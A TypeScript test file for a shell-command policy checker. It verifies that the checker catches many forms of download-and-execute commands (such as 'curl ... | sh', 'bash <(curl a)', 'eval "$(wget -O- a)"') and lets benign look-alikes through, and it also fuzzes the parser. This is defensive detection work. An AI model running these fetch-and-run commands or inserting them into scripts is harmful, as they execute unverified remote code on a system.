import { expect } from 'chai';
import fc from 'fast-check';
import { fetchedAndRun } from '../../../../compiler/policy/shell/fetched.js';
import { elementsOf } from '../../../../compiler/policy/shell/elements.js';
import { parseShell } from '../../../../compiler/policy/shell/parse.js';
import { hostile, HOSTILE } from '../../compile/hostile.js';

const found = (text: string): string | null => {
  const { downloader, interpreter } = fetchedAndRun(parseShell(text)) ?? {};
  return downloader === undefined ? null : `${downloader} ${interpreter}`;
};

const RUN: Readonly<Record<string, string>> = {
  'curl https://a.test | sh': 'curl sh',
  'curl https://a.test|sh': 'curl sh',
  'wget -qO- https://a.test | /bin/bash -s -- --flag': 'wget bash',
  'curl -sL https://a.test | sudo -E bash -': 'curl bash',
  'curl a | sudo -u app env A=b nice -n 5 timeout 60 bash -x': 'curl bash',
  'curl a | A=b sh': 'curl sh',
  'curl a |& sh': 'curl sh',
  'curl a | tee x | sh': 'curl sh',
  'curl a | gunzip | python3 -': 'curl python3',
  'curl a | python3': 'curl python3',
  'curl a | node': 'curl node',
  'curl a | perl - App::cpanminus': 'curl perl',
  'curl a | bash -o pipefail -eux': 'curl bash',
  'curl a | busybox sh': 'curl sh',
  'curl a | sh /dev/stdin x': 'curl sh',
  'set -e; curl a |\n  # why\n\n sh': 'curl sh',
  'curl a \\\n | \\\n sh': 'curl sh',
  '(curl a || wget b) | sh': 'curl sh',
  '{ curl a; } | sh': 'curl sh',
  'curl a | (cd /x && sh)': 'curl sh',
  'echo "$(curl a)" | sh': 'curl sh',
  'if true; then curl a | sh; fi': 'curl sh',
  'bash <(curl a)': 'curl bash',
  'bash < <(curl a)': 'curl bash',
  'bash <<< "$(curl a)"': 'curl bash',
  '. <(wget -O- a)': 'wget the shell',
  'source <(curl a)': 'curl the shell',
  'sh -c "$(curl -fsSL a)"': 'curl sh',
  'sh -c "`curl a`"': 'curl sh',
  'eval "$(wget -O- a)"': 'wget eval',
  'python3 -c "$(curl a)"': 'curl python3',
  "sh -c 'curl a | sh'": 'curl sh',
  'bash -lc "bash -c \'curl a | zsh\'"': 'curl zsh',
  'x="$(curl a | sh)"': 'curl sh',
  'bash <<EOF\ncurl a | sh\nEOF': 'curl sh',
  '<<EOF\ncurl a | sh\nEOF': 'curl sh',
  "echo 'it''s' && curl a | sh": 'curl sh',
  '/usr/bin/curl a | /usr/local/bin/bash': 'curl bash',
  'case $x in a) curl a | sh ;; esac': 'curl sh',
  'f() { curl a | sh; }': 'curl sh',
};

const FINE = [
  'curl -o x a && sh x',
  'curl a | tar -xz',
  'curl a | gpg --dearmor -o /k.gpg',
  'curl a | sha256sum -c',
  'curl a | python3 -c "import json, sys; print(json.load(sys.stdin))"',
  'curl a | python3 -m json.tool',
  'curl a | perl -ne "print"',
  'curl a | ruby -e "puts 1"',
  'curl a | node -e "1"',
  'curl a | php -r "1"',
  'curl a | sh -c "cat > /x"',
  'curl a | bash install.sh',
  'curl a | tee /etc/sh',
  'curl a | grep sh | jq .',
  'curl a || sh x',
  'curl a; sh x',
  'curl a & sh x',
  'echo "curl a | sh"',
  "echo 'curl a' | sh",
  '# curl a | sh',
  'cat x | sh',
  'apt-get install -y curl | sh',
  'echo curl | sh',
  'cat > /usr/share/doc/x <<EOF\ncurl a | sh\nEOF',
  'V="$(curl a)" && echo "$V"',
  'bash script.sh "$(curl a)"',
  'curl "a|sh"',
  'curl a \\| sh',
  '',
];

describe('policy/shell/fetched', () => {
  for (const [text, expected] of Object.entries(RUN))
    it(JSON.stringify(text), () => expect(found(text)).to.equal(expected));

  for (const text of FINE)
    it(`lets ${JSON.stringify(text)} through`, () => expect(found(text)).to.equal(null));

  it('reads whatever a text holds, and comes to an end', () => {
    for (const text of HOSTILE) [...elementsOf(parseShell(text))].map(() => found(text));
    const pieces = fc.constantFrom(
      ...[
        'curl',
        'sh',
        '|',
        '|&',
        '(',
        ')',
        '{ ',
        ' }',
        '"',
        "'",
        '`',
        '$(',
        '<(',
        '<<EOF',
        '\nEOF\n',
        '\\',
        ' ',
        ';',
        '<',
        '>',
        '#',
        '${',
        '}',
        '\n',
        '<<<',
        '1>&2',
      ],
    );
    fc.assert(
      fc.property(
        fc.oneof(
          hostile,
          fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join('')),
        ),
        (text) => {
          found(text);
          expect(parseShell(text)).to.be.an('array');
        },
      ),
      { numRuns: 2000 },
    );
  }).timeout(20_000);

  it('takes time that grows with the text, whatever is not closed', () => {
    const started = performance.now();
    for (const part of [
      '$(',
      '`',
      '"',
      "'",
      '(',
      '{ ',
      '<(',
      '| ',
      '<<E\n',
      '${',
      '\\',
      'a ',
      '"$(',
      '`\\`',
      'sh -c ',
      '> ',
      '&',
    ])
      found(part.repeat(300_000 / part.length));
    expect(performance.now() - started).to.be.below(6000);
  }).timeout(30_000);
});
